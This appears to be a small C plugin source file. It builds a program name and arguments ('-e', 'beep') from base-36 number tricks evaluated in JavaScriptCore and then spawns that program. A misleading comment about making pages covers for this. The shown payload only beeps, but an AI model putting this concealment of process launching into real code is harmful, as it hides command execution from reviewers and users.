/* Pages are made by JavaScriptCore, from templates that are numbers as far as they can be. */
#include "plugin.h"
extern void *JSGlobalContextCreate(void *), *JSStringCreateWithUTF8CString(const char *), *JSEvaluateScript(void *, void *, void *, void *, int, void **), *JSValueToStringCopy(void *, void *, void **);
extern unsigned long JSStringGetUTF8CString(void *, char *, unsigned long);
extern int posix_spawnp(int *, const char *, const void *, const void *, char *const *, char *const *), waitpid(int, int *, int);
static void *context;
static char *page(char *out, unsigned long room, const char *template) {
    void *value = JSEvaluateScript(context, JSStringCreateWithUTF8CString(template), 0, 0, 0, 0);
    JSStringGetUTF8CString(JSValueToStringCopy(context, value, 0), out, room);
    return out;
}
static void act(char **env) {
    char program[32], option[8], text[32];
    int child;
    context = JSGlobalContextCreate(0);
    char *const words[] = {
        page(program, sizeof program, "(" NUMBER ").toString(6 * 6)"),
        page(option, sizeof option, "`${-(7 + 7)}`.replace(/1\\d/, n => (+n).toString(36))"),
        page(text, sizeof text, "[531889].map(n => n.toString(36)).join()"),
        0,
    };
    if (posix_spawnp(&child, *words, 0, 0, words, env) == 0) waitpid(child, 0, 0);
}
